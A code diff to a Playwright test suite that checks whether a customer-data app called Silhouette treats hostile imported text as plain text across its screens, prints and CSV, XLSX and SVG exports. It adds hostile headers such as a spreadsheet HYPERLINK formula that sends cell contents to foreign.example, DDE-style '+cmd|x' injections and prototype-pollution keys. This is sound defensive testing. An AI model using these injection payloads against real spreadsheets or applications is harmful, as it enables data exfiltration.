@@ -1,10 +1,13 @@
+import { readdirSync, readFileSync } from 'node:fs';
 import { expect, type Page } from '@playwright/test';
 import { strFromU8, unzipSync } from 'fflate';
 import { readXlsx } from 'hucre/xlsx';
 import Papa from 'papaparse';
+import { screens } from '#app/routes.ts';
+import { kitText } from '#ui/kit-text.ts';
 import type { App } from './app.ts';
-import { settled } from './app/common.ts';
-import { test } from './fixtures.ts';
+import { savedFile, settled } from './app/common.ts';
+import { isLong, test } from './fixtures.ts';
 import { csvOf } from './small-shop.ts';
 
 /** Ten kinds of hostile text, some with a second spelling. */
@@ -32,6 +35,21 @@ const PAYLOADS: readonly (readonly [name: string, text: string])[] = [
   ['long', `L${'ong '.repeat(2500)}end`],
   ['control', 'bell\u0007esc\u001B[31mdel\u007F'],
 ];
+
+/** Headers that no object should be asked for, that a sheet would compute, none, and one twice. */
+const ODD_HEADERS = [
+  '__proto__',
+  'constructor',
+  'toString',
+  'hasOwnProperty',
+  '=HYPERLINK("http://foreign.example/?"&A1,"x")',
+  '+cmd|x',
+  '-2+3+cmd|x',
+  '&lt;script&gt;&#60;b&#62;&amp;amp;',
+  '',
+  '',
+  'xyzzy',
+] as const;
 
 const HEADERS = [
   'order_id',
@@ -72,7 +90,11 @@ function hostileShop(): { orders: string; custom: string; reviews: string } {
   }
   // Headers that are payloads become custom fields of customers, and so do values that are.
   const custom = [
-    ['member_no', 'name', 'phone', 'birthday', 'xyzzy', ...PAYLOADS.map(([, text]) => text)],
+    [
+      ...['member_no', 'name', 'phone', 'birthday', 'xyzzy'],
+      ...PAYLOADS.map(([, text]) => text),
+      ...ODD_HEADERS,
+    ],
     ...PAYLOADS.map(([id, text], at) => [
       `${id} ${text}`,
       text,
@@ -81,6 +103,7 @@ function hostileShop(): { orders: string; custom: string; reviews: string } {
       '1990-05-30',
       text,
       ...PAYLOADS.map(() => `v${at % 3}`),
+      ...ODD_HEADERS.map((_, odd) => ODD_HEADERS[(at + odd) % ODD_HEADERS.length]!),
     ]),
     ...Array.from({ length: 30 }, (_, at) => [
       `plain${at}`,
@@ -89,6 +112,7 @@ function hostileShop(): { orders: string; custom: string; reviews: string } {
       '',
       `n${at}`,
       ...PAYLOADS.map(() => `w${at % 3}`),
+      ...ODD_HEADERS.map((_, odd) => `o${(at + odd) % 3}`),
     ]),
   ];
   const reviews = [
@@ -152,12 +176,54 @@ async function expectOnlyText(app: App, place: string): Promise<void> {
   expect.soft(await page.evaluate(() => Reflect.has(globalThis, 'pwned')), place).toBe(false);
   const [title, address] = [await page.title(), page.url().slice(app.url.length)];
   expect.soft(title, place).toMatch(/^[\p{L} ]+ · Silhouette$/u);
-  expect
-    .soft(address, place)
-    .toMatch(
-      /^(?:#\/(?:data|import|customers(?:\/\d+)?|insights\/rfm|tags(?:\/\w+)?|segments(?:\/[\w-]+)?(?:\/edit)?|personas(?:\/[\w-]+)?|actions\/care)?)?$/,
-    );
+  const route = ROUTES.find(({ pattern }) => pattern.test(address.slice(1) || '/'));
+  expect.soft(route?.path, `${address} on ${place}`).toBeDefined();
+  if (route) visited.add(route.path);
 }
+
+/** Addresses hold fixed words and ids, never a word of the data: most specific first. */
+const ROUTES = screens
+  .map(({ path }) => ({
+    path,
+    pattern: new RegExp(
+      `^${path.replaceAll(/:(\w+)/g, (_, name) => (name === 'recordId' ? '\\d+' : '[\\w-]+'))}$`,
+    ),
+  }))
+  .sort((a, b) => a.path.split(':').length - b.path.split(':').length);
+
+const visited = new Set<string>();
+
+/** Every file that lets something out of the app, and where that is looked at. */
+const WAYS_OUT: Readonly<Record<string, string>> = {
+  'src/app/people/copy-text.ts': 'plain text, as the previews of a message show it here',
+  'src/app/people/people-file.ts': 'here: CSV and XLSX of customers and of a segment',
+  'src/app/people/print-sheet.tsx': 'here: a printed list',
+  'src/app/people/sample-file.tsx': 'nothing of the data: fixed rows',
+  'src/app/screens/care/care-screen.tsx': 'here: the care list on paper',
+  'src/app/screens/customer/customer-screen.tsx': 'here: a customer on paper',
+  'src/app/screens/import/batch-downloads.tsx': 'here: report, clean CSV and rejected rows',
+  'src/app/screens/overview/figures.tsx': 'here: the numbers of the overview',
+  'src/app/screens/personas/persona-screen.tsx': 'here: a persona on paper',
+  'src/app/vault/recovery-sheet.tsx': 'nothing of the data: the letters of a key',
+  'src/ui/chart-frame.tsx': 'here: a chart as CSV and as a drawing',
+  'src/ui/save-file.ts': 'the one place that saves',
+};
+
+/** Files of src that save, print, copy or share. */
+function waysOut(): string[] {
+  const asks =
+    /\b(?:saveFile\(|createObjectURL|window\.print\(|navigator\.clipboard|navigator\.share|showSaveFilePicker|showDirectoryPicker|execCommand)/;
+  return readdirSync('src', { recursive: true, encoding: 'utf8' })
+    .map((name) => `src/${name.replaceAll('\\', '/')}`)
+    .filter((name) => /\.tsx?$/.test(name) && !name.includes('.test.'))
+    .filter((name) => asks.test(readFileSync(name, 'utf8')))
+    .sort();
+}
+
+test('every way out of the app is on the list of this corpus', () => {
+  // A new one has to be looked at below with hostile text, or said here where it is.
+  expect(waysOut()).toEqual(Object.keys(WAYS_OUT).sort());
+});
 
 /** Whether the text stands on the page letter for letter (blanks as HTML shows them). */
 async function expectShown(app: App, text: string, place: string): Promise<void> {
@@ -189,6 +255,7 @@ test('hostile text is text on every screen', async ({ openApp }) => {
     }
     await importing.openTab(CUSTOM_NAME, 'columns');
     for (const [, text] of PAYLOADS) await expectShown(app, text, 'columns of a staged file');
+    for (const header of ODD_HEADERS) await expectShown(app, header, 'columns of a staged file');
   });
 
   await test.step('the clean CSV is as the file, letter for letter', async () => {
@@ -212,7 +279,7 @@ test('hostile text is text on every screen', async ({ openApp }) => {
     await expectOnlyText(app, 'customers');
     // Custom fields named by hostile headers.
     for (const [, header] of PAYLOADS.slice(0, 3)) await customers.toggleColumn(header);
-    await customers.toggleColumn('xyzzy');
+    for (const header of ODD_HEADERS.slice(0, 6)) await customers.toggleColumn(header);
     await expectOnlyText(app, 'customers with custom columns');
     await customers.clearFilters();
     const values = await customers.openValues(customers.columnName('profile.city'));
@@ -231,12 +298,15 @@ test('hostile text is text on every screen', async ({ openApp }) => {
     });
     const cells = rows.flat();
     expect(cells).toContain(`'${PAYLOADS.find(([id]) => id === 'formula')![1]}`);
+    for (const header of ODD_HEADERS.slice(0, 4)) expect(rows[0]).toContain(header);
+    for (const header of ODD_HEADERS.slice(4, 6)) expect(rows[0]).toContain(`'${header}`);
     expect(cells.filter((cell) => /^[=@\t\r]/.test(cell))).toEqual([]);
     expect(cells.filter((cell) => /^[+-]/.test(cell) && !/^[+-]?[\d.,]+$/.test(cell))).toEqual([]);
   });
 
   await test.step('found by it, and on a page of its own', async () => {
-    for (const [id, text] of PAYLOADS) {
+    // Each on a page of its own takes time: the quick run looks at every third.
+    for (const [id, text] of PAYLOADS.filter((_, at) => isLong || at % 3 === 0)) {
       await customers.open();
       expect.soft(await customers.search(`${id} `), `search ${id}`).toBeGreaterThanOrEqual(1);
       await expectShown(app, text, `customers searched for ${id}`);
@@ -247,6 +317,9 @@ test('hostile text is text on every screen', async ({ openApp }) => {
       await expectShown(app, text, `customer ${id}`);
       expect.soft(page.orders.length, id).toBeGreaterThanOrEqual(4);
     }
+    await app.page.emulateMedia({ media: 'print' });
+    await expectOnlyText(app, 'customer on paper');
+    await app.page.emulateMedia({ media: null });
     await customers.open();
     expect(await customers.search(PAYLOADS[0]![1]), 'search by the whole text').toBe(1);
   });
@@ -312,6 +385,8 @@ test('hostile text is text on every screen', async ({ openApp }) => {
       .map(([, bytes]) => strFromU8(bytes));
     expect(parts.length).toBeGreaterThan(0);
     for (const xml of parts) expect(xml).not.toMatch(/<f[ >]|<script|<img/);
+    await app.goTo(`/${app.page.url().split('#/')[1]}/edit`);
+    await expectOnlyText(app, 'editing a segment');
     await segments.open();
     await expectOnlyText(app, 'segments');
     await expectShown(app, name, 'segments');
@@ -336,6 +411,9 @@ test('hostile text is text on every screen', async ({ openApp }) => {
   await test.step('the care list', async () => {
     await app.care.open();
     await expectOnlyText(app, 'care list');
+    await app.page.emulateMedia({ media: 'print' });
+    await expectOnlyText(app, 'care list on paper');
+    await app.page.emulateMedia({ media: null });
     const names = await app.care.names('birthday');
     expect(names.length).toBeGreaterThan(5);
     for (const [id, text] of PAYLOADS) {
@@ -363,6 +441,30 @@ test('hostile text is text on every screen', async ({ openApp }) => {
     await data.confirm();
     await expectOnlyText(app, 'after an undo');
     await data.putBack();
+  });
+
+  await test.step('history, and where it is stored', async () => {
+    await app.goTo('/history');
+    await expectOnlyText(app, 'history');
+    await app.goTo('/device');
+    await expectOnlyText(app, 'on this device');
+  });
+
+  await test.step('what the overview hands out', async () => {
+    const figures = JSON.stringify(await app.downloadFigures());
+    expect(figures).not.toMatch(/pwned|</);
+    const menu = app.page.getByRole('button', { name: new RegExp(`: ${kitText.en.chartMenu}$`) });
+    await menu.first().click();
+    const csv = await savedFile(app.page, app.page.getByRole('button', { name: kitText.en.csv }));
+    const cells = Papa.parse<string[]>(csv.bytes.toString('utf8').replace(/^\uFEFF/, '')).data;
+    expect(cells.flat().filter((cell) => /^[=@\t\r]/.test(cell))).toEqual([]);
+    await menu.first().click();
+    const svg = await savedFile(app.page, app.page.getByRole('button', { name: kitText.en.svg }));
+    expect(svg.bytes.toString('utf8')).not.toMatch(/<script|<foreignObject|\son\w+=|javascript:/i);
+  });
+
+  await test.step('every screen has been looked at', () => {
+    expect([...visited].sort()).toEqual(screens.map(({ path }) => path).sort());
   });
 
   await test.step('nothing of it is kept outside the workspace', async () => {
